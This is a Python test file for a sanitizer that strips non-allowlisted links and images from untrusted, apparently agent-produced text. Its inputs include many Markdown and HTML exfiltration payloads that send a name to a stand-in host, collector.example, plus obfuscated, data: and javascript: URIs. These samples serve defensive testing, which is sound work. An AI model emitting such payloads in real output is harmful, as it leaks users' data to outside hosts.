"""``safe_text``: untrusted text as plain text with no live link or image outside the allowlist
(what the CLI prints to a pipe and batch exports write). Every way Markdown or HTML can point to
an address is tried; the words around stay as they were."""

from __future__ import annotations

import pytest

from agents.safe_text import safe_text
from builder_ui.services.links import ShownHosts

ALLOWED = ShownHosts(("service-public.fr",))


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://collector.example/?q=Marie)",
        "![x](<https://collector.example/?q=Marie>)",
        '![x](https://collector.example/?q=Marie "titre")',
        "[suivi](https://collector.example/?q=Marie)",
        "[suivi][1]\n\n[1]: https://collector.example/?q=Marie",
        "![x][img]\n\n[img]: https://collector.example/?q=Marie",
        "<https://collector.example/?q=Marie>",
        "https://collector.example/?q=Marie",
        "www.collector.example/?q=Marie",
        '<img src="https://collector.example/?q=Marie">',
        "<a href='https://collector.example/?q=Marie'>ici</a>",
        "[x](&#104;ttps://collector.example/?q=Marie)",
        "![x](data:image/png;base64,TWFyaWU=)",
        "[x](javascript:alert('Marie'))",
        "```\nhttps://collector.example/?q=Marie\n```",
        "| a | b |\n|---|---|\n| ![x](https://collector.example/?q=Marie) | c |",
    ],
)
def test_no_address_outside_the_allowlist_survives(text: str) -> None:
    shown = safe_text(text, ALLOWED)
    assert "collector.example/" not in shown
    assert "?q=Marie" not in shown
    assert "TWFyaWU" not in shown and "javascript:" not in shown


def test_the_words_stay_and_a_note_says_what_was_taken_out() -> None:
    text = "Bonjour **Marie**, voir ![plan](https://collector.example/p.png) et [le suivi](https://collector.example/s)."
    assert safe_text(text) == (
        "Bonjour Marie, voir plan [image retirée : collector.example] et "
        "le suivi [lien retiré : collector.example]."
    )


def test_an_allowed_host_keeps_its_address_and_numbers_are_left_alone() -> None:
    text = "Voir [la démarche](https://service-public.fr/particuliers/vosdroits/F1234).\n\n42."
    assert safe_text(text, ALLOWED) == (
        "Voir la démarche (https://service-public.fr/particuliers/vosdroits/F1234).\n\n42."
    )
    assert safe_text("Écrivez à marie@example.fr ou [moi](mailto:a@b.fr) avant 12:30.") == (
        "Écrivez à marie@example.fr ou moi (a@b.fr) avant 12:30."
    )


def test_lists_quotes_and_lines_keep_their_shape() -> None:
    text = "Étapes :\n\n- un\n- deux\n\n1. trois\n\n> cité\nsuite"
    assert safe_text(text) == "Étapes :\n\n- un\n- deux\n\n1. trois\n\n> cité\n> suite"
